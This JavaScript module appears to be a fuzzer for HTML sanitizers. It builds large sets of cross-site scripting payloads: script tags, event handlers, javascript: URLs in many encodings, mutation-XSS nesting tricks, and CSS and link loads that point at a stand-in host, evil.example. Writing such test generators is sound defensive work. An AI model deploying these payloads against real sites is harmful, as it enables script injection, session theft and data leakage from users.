/* SPDX-License-Identifier: MIT
 * Hostile markup, made by combining what each attack is made of: every name
 * of every list with every way to write it, then soup from a seed.  What runs
 * calls hit(); what loads asks MARK. */
"use strict";

const MARK = "http://evil.example/x";
const RUN = "hit(1)";

/* Numbers from a seed (mulberry32), so that a payload has a number. */
function random(seed) {
	return () => {
		seed = seed + 0x6D2B79F5 | 0;
		let t = Math.imul(seed ^ seed >>> 15, 1 | seed);
		t = t + Math.imul(t ^ t >>> 7, 61 | t) ^ t;
		return ((t ^ t >>> 14) >>> 0) / 4294967296;
	};
}

const ELEMENTS = ("a abbr acronym address applet area article aside audio b " +
	"base basefont bdi bdo bgsound big blink blockquote body br button " +
	"canvas caption center cite code col colgroup command content data " +
	"datalist dd del details dfn dialog dir div dl dt em embed " +
	"event-source fieldset figcaption figure font footer form frame " +
	"frameset h1 h6 head header hgroup hr html i iframe image img input ins " +
	"isindex kbd keygen label layer legend li link listing main map mark " +
	"marquee math menu menuitem meta meter multicol nav nobr noembed " +
	"noframes noscript object ol optgroup option output p param picture " +
	"plaintext portal pre progress q rb rp rt rtc ruby s samp script " +
	"search section select selectedcontent shadow slot small source spacer " +
	"span strike strong style sub summary sup svg table tbody td template " +
	"textarea tfoot th thead time title tr track tt u ul var video wbr xml " +
	"xmp x-foo svg:script animate animateMotion animateTransform set " +
	"foreignObject desc use image feImage a:a circle path text tspan mi mo " +
	"mn ms mtext mglyph malignmark annotation-xml maction semantics " +
	"fencedframe model").split(" ");

const EVENTS = ("abort activate afterprint afterscriptexecute " +
	"animationcancel animationend animationiteration animationstart " +
	"auxclick beforecopy beforecut beforeinput beforematch beforepaste " +
	"beforeprint beforescriptexecute beforetoggle beforeunload begin blur " +
	"bounce cancel canplay canplaythrough change click close command " +
	"contentvisibilityautostatechange contextmenu copy cuechange cut " +
	"dblclick drag dragend dragenter dragleave dragover dragstart drop " +
	"durationchange end ended error finish focus focusin focusout formdata " +
	"fullscreenchange gotpointercapture hashchange input invalid keydown " +
	"keypress keyup load loadeddata loadedmetadata loadend loadstart " +
	"lostpointercapture message mousedown mouseenter mouseleave mousemove " +
	"mouseout mouseover mouseup mousewheel offline online open pagehide " +
	"pagereveal pageshow pageswap paste pause play playing pointercancel " +
	"pointerdown pointerenter pointerleave pointermove pointerout " +
	"pointerover pointerrawupdate pointerup popstate progress promptaction " +
	"ratechange readystatechange repeat reset resize scroll scrollend " +
	"scrollsnapchange search securitypolicyviolation seeked seeking select " +
	"selectionchange selectstart show slotchange stalled start storage " +
	"submit suspend timeupdate toggle touchcancel touchend touchmove " +
	"touchstart transitioncancel transitionend transitionrun " +
	"transitionstart unload validationstatuschange volumechange waiting " +
	"webkitanimationend webkitplaybacktargetavailabilitychanged wheel")
	.split(" ");

/* Attributes that load, lead or submit. */
const ADDRESSED = ("action archive attributionsrc background cite classid " +
	"code codebase data dynsrc formaction from href icon imagesrcset " +
	"itemid longdesc lowsrc manifest ping poster profile src srcdoc srcset " +
	"style to usemap values xlink:href xml:base xmlns").split(" ");

/* Ways to write "javascript:hit(1)" or to hide an address. */
const SCRIPTS = [
	`javascript:${RUN}`, `JaVaScRiPt:${RUN}`, ` javascript:${RUN}`,
	`\tjavascript:${RUN}`, `\u0001javascript:${RUN}`,
	`\u0000javascript:${RUN}`, `java\tscript:${RUN}`, `java\nscript:${RUN}`,
	`java\rscript:${RUN}`, `java&Tab;script:${RUN}`,
	`java&NewLine;script:${RUN}`, `java&#10;script:${RUN}`,
	`java&#x0d;script:${RUN}`, `&#106;avascript:${RUN}`,
	`&#106avascript:${RUN}`, `&#0000106&#0000097vascript:${RUN}`,
	`&#x6A&#x61vascript:${RUN}`, `&#x000006a;avascript:${RUN}`,
	`javascript&colon;${RUN}`, `javascript&#58;${RUN}`,
	`javascript&#x3a${RUN}`, `javascript\u0000:${RUN}`,
	`javascript\t:${RUN}`, `\u00a0javascript:${RUN}`,
	`\ufeffjavascript:${RUN}`, `\u2028javascript:${RUN}`,
	`javascript://%0a${RUN}`, `javascript://evil.example/%0d%0a${RUN}`,
	`javascript:/*http://x*/${RUN}`, `vbscript:${RUN}`, `livescript:${RUN}`,
	`mocha:${RUN}`, `view-source:javascript:${RUN}`,
	`feed:javascript:${RUN}`, `jar:javascript:${RUN}!/`,
	`data:text/html,<script>parent.${RUN}</script>`,
	`data:text/html;base64,PHNjcmlwdD5oaXQoMSk8L3NjcmlwdD4=`,
	`data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${
		RUN}'/>`,
	`data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImhpdCgxKSIvPg==`,
	`data:,${RUN}`, `DATA:text/javascript,${RUN}`, `blob:null/1`,
	`filesystem:http://x/`, `about:srcdoc`, `file:///etc/passwd`,
	`chrome://settings`, `//evil.example/x`, `\\\\evil.example\\x`,
	`/\\evil.example/x`, `http:evil.example`, `https:///evil.example/x`,
	MARK, `${MARK} 1x, ${MARK}2 2x`, `url(${MARK})`,
	`0;url=${MARK}`, `#x onload=${RUN}`, `x:x`, `%6aavascript:${RUN}`,
	`javas&#99;ript:${RUN}`, `jav\u0430script:${RUN}`, `+ADw-script+AD4-`,
	`ｊavascript:${RUN}`, `javascript:\u0022//`, `'-${RUN}-'`];

const STYLES = [
	`background:url(${MARK})`, `background-image:URL(${MARK})`,
	`cursor:url(1),auto`, `cursor:URL(1),auto`, `cursor:Url(1),pointer`,
	`cursor:u\\72l(1),auto`, `cursor:ur\\6c(${MARK}),auto`,
	`list-style-image:url('${MARK}')`, `border-image:url("${MARK}") 1`,
	`content:url(${MARK})`, `background:image-set('${MARK}' 1x)`,
	`background:-webkit-image-set(url(${MARK}) 1x)`, `mask:url(${MARK}#a)`,
	`filter:url(${MARK}#a)`, `clip-path:url(${MARK}#a)`, `fill:url(${MARK})`,
	`width:expression(${RUN})`, `width:e\\xpression(${RUN})`,
	`width:exp/**/ression(${RUN})`, `-moz-binding:url(${MARK}#x)`,
	`behavior:url(${MARK})`, `@import '${MARK}'`, `color:red;@import url(1)`,
	`--a:url(${MARK});background:var(--a)`, `position:fixed;top:0;left:0`,
	`position:absolute;z-index:9999;width:100%;height:100%`,
	`animation:x 1s`, `transition:all 1s`, `font-family:"a";b:url(1)`,
	`font:url(1)`, `background:red url( 1 )`, `color:red}body{background:url(${
		MARK})}`, `width:calc(1px*attr(x))`, `background:cross-fade(url(1),red)`,
	`src:url(1)`, `offset-path:url(1)`, `shape-outside:url(1)`,
	`color:rgb(1,2,3);cursor:URL (1)`, `cursor:url\u0000(1),auto`,
	`cursor:image(1),auto`, `cursor:src(1),auto`, `background:URL(2)`,
	`margin-top:-9999px`, `display:block;width:URL(3)`];

/* Whole attacks: markup in which parsers disagree. */
const IMG = `<img src=x onerror=${RUN}>`;
const MIXED = [
	`<script>${RUN}</script>`, `<SCRIPT SRC=${MARK}></SCRIPT>`,
	`<scr<script>ipt>${RUN}</scr</script>ipt>`, `<script\u0000>${RUN}</script>`,
	`<script/x>${RUN}</script >`, `<script>${RUN}`, `<<script>${RUN}//<</script>`,
	`<svg><script>${RUN}</script></svg>`, `<svg><script href=${MARK} /></svg>`,
	`<svg><script>&#104;it(1)</script>`, `<math><script>${RUN}</script></math>`,
	`<svg onload=${RUN}>`, `<svg/onload=${RUN}//`, `<body onload=${RUN}>`,
	IMG, `<img src=x onerror="${RUN}" <b>`, `<img src="x\` \`onerror=${RUN}">`,
	`<img/src/onerror=${RUN}>`, `<img src=x\u000conerror=${RUN}>`,
	`<image src=x onerror=${RUN}>`, `<image/src/onerror=${RUN}>`,
	`<noscript><p title="</noscript>${IMG}">`, `<noscript>${IMG}</noscript>`,
	`<noscript><style></noscript>${IMG}</style>`,
	`<template>${IMG}</template>`, `<template><script>${RUN}</script>`,
	`<template shadowrootmode=open>${IMG}</template>`,
	`<div><template shadowrootmode=open><script>${RUN}</script></template></div>`,
	`<style><img src="</style>${IMG}">`, `<style>@import '${MARK}';</style>`,
	`<style>*{background:url(${MARK})}</style>`, `<style><!--</style>${IMG}-->`,
	`<svg><style>${IMG}</style></svg>`, `<svg><style><a title="</style>${IMG}">`,
	`<math><style>${IMG}`, `<title><a title="</title>${IMG}"></title>`,
	`<svg><title><style><a title="</style>${IMG}"></style></title></svg>`,
	`<textarea><a title="</textarea>${IMG}">`, `<xmp><a title="</xmp>${IMG}">`,
	`<iframe><a title="</iframe>${IMG}">`, `<noembed><a title="</noembed>${IMG}">`,
	`<noframes><a title="</noframes>${IMG}">`, `<plaintext>${IMG}`,
	`<select><a title="</select>${IMG}"></select>`,
	`<select><style></select>${IMG}</style>`,
	`<select><option>${IMG}</option></select>`,
	`<select><template>${IMG}</template></select>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${
		"&lt;img src=x onerror=hit(1)&gt;"}">`,
	`<math><mtext><table><mglyph><style><math>${IMG}`,
	`<form><math><mtext></form><form><mglyph><style></math>${IMG}`,
	`<math><mtext><mglyph><svg><mtext><textarea><path id="</textarea>${IMG}">`,
	`<math><annotation-xml encoding="text/html">${IMG}</annotation-xml></math>`,
	`<math><annotation-xml encoding="application/xhtml+xml"><style><img title="</style>${
		IMG}">`, `<math><mi><b><style><b title="</style>${IMG}">`,
	`<svg><foreignObject>${IMG}</foreignObject></svg>`,
	`<svg><foreignobject><style><b title="</style>${IMG}">`,
	`<svg><desc><style><b title="</style>${IMG}">`,
	`<svg></p><style><a id="</style>${IMG}">`, `<svg><p><style><g title="</style>${IMG}">`,
	`<svg><br><style><b title="</style>${IMG}">`,
	`<math></br><style><b title="</style>${IMG}">`,
	`<p><svg><p><style><!--</style>${IMG}-->`,
	`<table><td><svg><tr><style><a title="</style>${IMG}">`,
	`<table><svg><style><a title="</style>${IMG}">`,
	`<table>${IMG}</table>`, `<table><caption><svg></caption>${IMG}`,
	`<table><input type=hidden onfocus=${RUN} autofocus>`,
	`<a><a href=javascript:${RUN}>x</a>`, `<a href=#><table><a href=javascript:${RUN}>x`,
	`<!--><img src=x onerror=${RUN}>-->`, `<!---><img src=x onerror=${RUN}>-->`,
	`<!-- --!>${IMG}-->`, `<!--${IMG}`, `<!-${IMG}`, `<![CDATA[${IMG}]]>`,
	`<svg><![CDATA[${IMG}]]></svg>`, `<svg><![CDATA[><img src=x onerror=${RUN}>]]>`,
	`<math><![CDATA[</math>${IMG}]]>`, `<?xml version="1.0"?>${IMG}`,
	`<?php ${IMG} ?>`, `<%${IMG}%>`, `<!DOCTYPE html [<!ENTITY x "${IMG}">]>&x;`,
	`<!ENTITY % x SYSTEM "${MARK}">`, `<a title='a"></a>${IMG}'>`,
	`<a title="&quot;&gt;&lt;img src=x onerror=${RUN}&gt;">x</a>`,
	`&lt;img src=x onerror=${RUN}&gt;`, `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
	`<a title="\`">\`${IMG}`, `<p title="--><img src=x onerror=${RUN}>">`,
	`<b title="]]>${IMG}">`, `<meta http-equiv=refresh content="0;url=${MARK}">`,
	`<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
	`<meta charset=utf-7>+ADw-script+AD4-hit(1)+ADw-/script+AD4-`,
	`<meta http-equiv=set-cookie content=a=b>`, `<meta name=referrer content=unsafe-url>`,
	`<meta http-equiv=Content-Security-Policy content="default-src *">`,
	`<base href=${MARK}><a href=y>z</a><img src=y>`, `<base target=_parent>`,
	`<link rel=stylesheet href=${MARK}>`, `<link rel=prefetch href=${MARK}>`,
	`<link rel=preload as=script href=${MARK}>`, `<link rel=dns-prefetch href=//evil.example>`,
	`<link rel=preconnect href=//evil.example>`, `<link rel=import href=${MARK}>`,
	`<link rel=modulepreload href=${MARK}>`, `<link rel=manifest href=${MARK}>`,
	`<link rel=icon href=${MARK}>`, `<link rel=prerender href=${MARK}>`,
	`<script type=speculationrules>{"prefetch":[{"urls":["${MARK}"]}]}</script>`,
	`<script type=importmap>{}</script>`, `<iframe src=${MARK}></iframe>`,
	`<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
	`<iframe srcdoc="&lt;img src=x onerror=parent.${RUN}&gt;"></iframe>`,
	`<iframe src="javascript:parent.${RUN}"></iframe>`, `<frameset><frame src=${MARK}></frameset>`,
	`<object data=${MARK}></object>`, `<object type=text/html data="data:text/html,${IMG}">`,
	`<object><param name=movie value=${MARK}></object>`, `<embed src=${MARK}>`,
	`<embed src="javascript:${RUN}">`, `<applet code=${MARK}></applet>`,
	`<portal src=${MARK}></portal>`, `<fencedframe src=${MARK}></fencedframe>`,
	`<form action=${MARK}><input type=submit></form>`,
	`<form action=javascript:${RUN}><button>x</button></form>`,
	`<form id=f></form><button form=f formaction=${MARK}>x</button>`,
	`<form><button formaction=javascript:${RUN}>x</button></form>`,
	`<form><input type=image src=${MARK} formaction=${MARK}></form>`,
	`<form method=dialog><input autofocus onfocus=${RUN}></form>`,
	`<form><input name=parentNode><input name=attributes></form>`,
	`<isindex action=javascript:${RUN} type=image>`,
	`<keygen autofocus onfocus=${RUN}>`, `<input type=image src=${MARK}>`,
	`<button popovertarget=x onclick=${RUN}>x</button><div popover id=x onbeforetoggle=${RUN}>y</div>`,
	`<button commandfor=x command=show-modal>x</button><dialog id=x ontoggle=${RUN}>`,
	`<video><source onerror=${RUN} src=x></video>`, `<video src=${MARK}></video>`,
	`<video poster=${MARK}></video>`, `<video poster=javascript:${RUN}></video>`,
	`<audio src=${MARK} autoplay></audio>`, `<audio src=x onerror=${RUN}></audio>`,
	`<audio preload=auto src=${MARK}></audio>`, `<video preload=auto><source src=${MARK}></video>`,
	`<video autoplay muted loop><source src=${MARK}></video>`,
	`<audio preload=none preload=auto src=${MARK}></audio>`,
	`<video preload="" src=${MARK}><track src=${MARK} default></video>`,
	`<img srcset="${MARK} 1x">`, `<picture><source srcset=${MARK}><img></picture>`,
	`<img src=${MARK} lowsrc=${MARK} dynsrc=${MARK}>`, `<bgsound src=${MARK}>`,
	`<body background=${MARK}>`, `<table background=${MARK}><td background=${MARK}>x`,
	`<a href=${MARK} ping=${MARK}>x</a>`, `<a href=${MARK} attributionsrc=${MARK}>x</a>`,
	`<img attributionsrc=${MARK}>`, `<img src=x usemap=#m><map name=m><area href=javascript:${RUN} shape=default></map>`,
	`<svg><a xlink:href=javascript:${RUN}><text y=20>x</text></a></svg>`,
	`<svg><a href=javascript:${RUN}><text y=20>x</text></a></svg>`,
	`<svg><a xlink:href="&#1;javascript:${RUN}"><rect width=9 height=9 /></a></svg>`,
	`<svg><animate attributeName=href values=javascript:${RUN} /></svg>`,
	`<svg><a><animate attributeName=href to=javascript:${RUN} begin=0s fill=freeze /><text y=9>x</text></a></svg>`,
	`<svg><a><set attributeName=href to=javascript:${RUN} /><text y=9>x</text></a></svg>`,
	`<svg><set attributeName=onmouseover to=${RUN} /></svg>`,
	`<svg><animate onbegin=${RUN} attributeName=x dur=1s></svg>`,
	`<svg><use href="data:image/svg+xml,<svg id='x' onload='${RUN}'/>#x"/></svg>`,
	`<svg><use xlink:href=${MARK}#x /></svg>`, `<svg><image href=${MARK} /></svg>`,
	`<svg><image xlink:href=${MARK} onload=${RUN} /></svg>`,
	`<svg><filter id=f><feImage href=${MARK} /></filter></svg>`,
	`<svg><rect fill="url(${MARK}#a)" width=9 height=9 /></svg>`,
	`<svg><rect style="fill:url(${MARK})" width=9 height=9 /></svg>`,
	`<svg><rect fill="URL(1#a)" cursor="URL(1)" mask="u\\rl(1)" /></svg>`,
	`<svg><handler type=text/javascript>${RUN}</handler></svg>`,
	`<svg><discard onbegin=${RUN} /></svg>`, `<svg xml:base=${MARK}><a href=y>z</a></svg>`,
	`<svg><switch><foreignObject requiredExtensions=x>${IMG}</foreignObject></switch></svg>`,
	`<math href=javascript:${RUN}>x</math>`, `<math xlink:href=javascript:${RUN}>x</math>`,
	`<math><maction actiontype=statusline#${MARK} xlink:href=javascript:${RUN}>x</maction></math>`,
	`<math><mi href=javascript:${RUN}>x</mi></math>`,
	`<marquee onstart=${RUN}>x</marquee>`, `<marquee loop=1 width=0 onfinish=${RUN}>x</marquee>`,
	`<details open ontoggle=${RUN}>x</details>`, `<dialog open onclose=${RUN}>x</dialog>`,
	`<x contenteditable onblur=${RUN}>x`, `<x onclick=${RUN}>x</x>`,
	`<x-foo onmouseover=${RUN} style=display:block>x</x-foo>`,
	`<a href="javascript:${RUN}" target=_self>x</a>`, `<a href=x target=hit>y</a>`,
	`<a id=hit>1</a><a id=hit name=x>2</a>`, `<img name=getElementById>`,
	`<img name=cookie><form name=body><input name=action></form>`,
	`<a id=location href=${MARK}>x</a>`, `<form id=x><output id=y>1</output></form>`,
	`<div id=__proto__ class=hit style="animation:x 1s">x</div>`,
	`<div is=x-foo slot=y part=z data-x="${RUN}" itemid=${MARK}>x</div>`,
	`<div hidden=until-found onbeforematch=${RUN}>x</div>`,
	`<xml id=x><a><b>&lt;script>${RUN}&lt;/script></b></a></xml>`,
	`<?import namespace=t implementation="${MARK}"?>`, `<?xml-stylesheet href="javascript:${RUN}"?>`,
	`<!--[if gte IE 4]><script>${RUN}</script><![endif]-->`,
	`<comment><img src="</comment>${IMG}">`, `<listing>&lt;img src=x onerror=${RUN}&gt;</listing>`,
	`<pre>\n\n${IMG}</pre>`, `<b><p><b><p>${IMG}`, `</div></div></body></html>${IMG}`,
	`</p></table></td></svg></math></select>${IMG}`, `<ruby><rt>${IMG}<rp><rtc>x`,
	`<html><head><title></head><body onload=${RUN}>`, `<frameset onload=${RUN}>`,
	`<a href="http://a/\u0000" onclick=${RUN}>x</a>`, `<\u0000img src=x onerror=${RUN}>`,
	`<i\u0000mg src=x onerror=${RUN}>`, `<img src=x on\u0000error=${RUN}>`,
	`\u003cimg src=x onerror=${RUN}\u003e`, `＜img src=x onerror=${RUN}＞`,
	`<img src=x onerror=${RUN}\u0000>`, `<ımg src=x onerror=${RUN}>`, `<ſcript>${RUN}</ſcript>`,
	`<a href=\u00a0javascript:${RUN}>x</a>`, `<img src=1 href=1 onerror="${RUN}"></img>`,
	`<img """><script>${RUN}</script>">`, `<img '><script>${RUN}</script>'>`,
	`<img a=\`><script>${RUN}</script>\`>`, `<div =><img src=x onerror=${RUN}></div>`,
	`<a/onclick=${RUN}/href=#>x</a>`, `<a "onclick=${RUN}>x</a>`, `<a\n\nonclick\n=\n${RUN}>x</a>`,
	`<a class="a"onclick=${RUN}>x</a>`, `<a title=a onclick=${RUN} title=b onclick=1>x</a>`,
	`<p style="x" style="background:url(${MARK})">x</p>`, `<p STYLE=cursor:URL(1)>x</p>`,
];

/* Endings in the wrong place, and depth. */
function deep() {
	const out = [];
	for (const name of ["div", "b", "a", "table", "svg", "math", "font",
		"select", "form", "ul><li", "table><tr><td", "svg><desc",
		"math><mtext", "template", "p><svg", "ruby><rt", "button"])
		for (const n of [64, 130, 513, 600])
			out.push(`<${name}>`.repeat(n) + IMG,
				`<${name}>`.repeat(n) + `</${name.split(">")[0]}>`
					.repeat(n >> 1) + `<style><a title="</style>${IMG}">`);
	return out;
}

const QUOTES = [v => `"${v.replace(/"/g, "&quot;")}"`,
	v => `'${v.replace(/'/g, "&#39;")}'`, v => v.replace(/[ \t\n>]/g, "&#32;"),
	v => `"${v}"`, v => `'${v}`, v => "`" + v + "`", v => `"${v.replace(
		/[a-z]/g, c => Math.abs(c.charCodeAt(0) % 3) ? c
			: `&#${c.charCodeAt(0)}`)}"`];
const GAPS = [" ", "\t", "\n", "/", "\f", " / ", "\r\n", "\" ", "\u000b", "\u0000"];
const AROUND = ["%", "<p>%", "<b>a</b>%", "<table><tr><td>%", "<svg>%</svg>",
	"<math><mtext>%", "<a title='%'>", "<ul><li>%", "<select>%", "<form>%",
	"<svg><foreignObject>%", "<!--%-->", "<title>%", "<noscript>%",
	"<svg><style>%", "<template>%", "<details open>%", "<figure>%", "<pre>%",
	"<math><annotation-xml encoding=text/html>%", "<table>%", "%</p></div>",
	"&lt;%", "<button>%", "<object>%", "<video>%", "<picture>%"];

/* One attribute of one element, written in one of many ways. */
function attribute(rnd, name, value, element) {
	const pick = list => list[Math.floor(rnd() * list.length)];
	const e = element || pick(ELEMENTS);
	const cased = rnd() < .3 ? name.replace(/[a-z]/g, c => rnd() < .5
		? c.toUpperCase() : c) : name;
	const more = rnd() < .4 ? pick(["src=x ", "href=# ", "autofocus ",
		"tabindex=0 ", "open ", "type=image ", "controls ", "id=hit ",
		"style=display:block ", "contenteditable "]) : "";
	const tag = `<${e}${pick(GAPS)}${more}${cased}${rnd() < .1 ? " = " : "="}${
		pick(QUOTES)(value)}${rnd() < .15 ? "/" : ""}${
		rnd() < .08 ? "" : ">"}x${rnd() < .5 ? `</${e}>` : ""}`;
	return pick(AROUND).replace("%", () => tag);
}

/* Pieces in any order: what mutation attacks are made of. */
const SOUP = ("<svg> </svg> <math> </math> <mtext> </mtext> <mi> <mglyph> " +
	"<malignmark> <annotation-xml_encoding=text/html> </annotation-xml> " +
	"<foreignObject> </foreignObject> <desc> <title> </title> <style> " +
	"</style> <noscript> </noscript> <template> </template> <textarea> " +
	"</textarea> <xmp> </xmp> <iframe> </iframe> <noembed> </noembed> " +
	"<noframes> </noframes> <plaintext> <select> </select> <option> <table> " +
	"</table> <tr> <td> </td> <caption> </caption> <colgroup> <col> <form> " +
	"</form> <p> </p> <br> </br> <b> </b> <i> <a> </a> <a_href=#> <nobr> " +
	"<font> <font_color=red> <li> <ul> <dd> <h1> <h2> <pre> <listing> " +
	"<ruby> <rt> <rp> <body> </body> <html> <head> <frameset> <button> " +
	"</button> <object> <marquee> <applet> <video> <details> <summary> " +
	"<script> </script> <!-- --> --!> <![CDATA[ ]]> <? ?> <!x> < > & \" ' ` " +
	"= / &lt; &gt; &amp; &quot; &#60; <a_title=\" <b_id=' <p_class=\"--> " +
	"<img_title=\"</style><img_src=x_onerror=hit(1)>\"> \u0000 \u00a0 x " +
	"<img_src=x_onerror=hit(1)> <svg_onload=hit(1)> <g_title=\"</svg>\"> " +
	"<path_id=\"</title><img_src=x_onerror=hit(1)>\"> <input_autofocus_" +
	"onfocus=hit(1)> <a_href=javascript:hit(1)>y</a>").split(" ")
	.map(t => t.replace(/_(?!src=x_)/g, " ").replace(/_/g, " "));

function soup(rnd) {
	let out = "";
	for (let n = 3 + Math.floor(rnd() * 14); n > 0; n--)
		out += SOUP[Math.floor(rnd() * SOUP.length)];
	return out + (rnd() < .7 ? IMG : "");
}

/* Two attacks in one another. */
function nested(rnd) {
	const a = MIXED[Math.floor(rnd() * MIXED.length)];
	const b = MIXED[Math.floor(rnd() * MIXED.length)];
	const at = Math.floor(rnd() * a.length);
	return a.slice(0, at) + b + a.slice(at);
}

/* Everything systematic, then as many of each random kind as asked for. */
function payloads(count, seed) {
	const rnd = random(seed), out = [...MIXED, ...deep()];
	const pick = list => list[Math.floor(rnd() * list.length)];

	for (const around of AROUND)
		out.push(around.replace("%", () => IMG));
	for (const e of EVENTS)
		out.push(attribute(rnd, `on${e}`, RUN),
			attribute(rnd, `on${e}`, RUN, pick(["img", "a", "svg", "p",
				"input", "body", "video", "details"])));
	for (const a of ADDRESSED)
		for (const v of SCRIPTS)
			out.push(attribute(rnd, a, v));
	for (const v of SCRIPTS)
		out.push(`<a href="${v}">x</a>`, `<img src="${v}">`,
			`<svg><a xlink:href="${v}"><text y=9>x</text></a></svg>`);
	for (const v of STYLES)
		out.push(`<p style="${v.replace(/"/g, "&quot;")}">x</p>`,
			`<svg><rect style='${v.replace(/'/g, "&#39;")}'/></svg>`,
			`<style>p{${v}}</style>`, attribute(rnd, "style", v));
	for (const e of ELEMENTS)
		out.push(`<${e} onclick=${RUN} src=${MARK} href=javascript:${RUN} ` +
			`style="cursor:URL(1)">${IMG}</${e}>`, `<${e}/>${IMG}`,
			`<svg><${e}><style><a title="</style>${IMG}">`,
			`<math><mi><${e}>${IMG}</${e}></mi></math>`);
	const all = new Set(out);
	while (all.size < count) {
		const kind = rnd();
		all.add(kind < .35 ? attribute(rnd, rnd() < .5
			? `on${pick(EVENTS)}` : pick(ADDRESSED), rnd() < .15
			? pick(STYLES) : pick(SCRIPTS))
			: kind < .8 ? soup(rnd) : nested(rnd));
	}
	return [...all];
}

module.exports = {payloads, random, MARK};
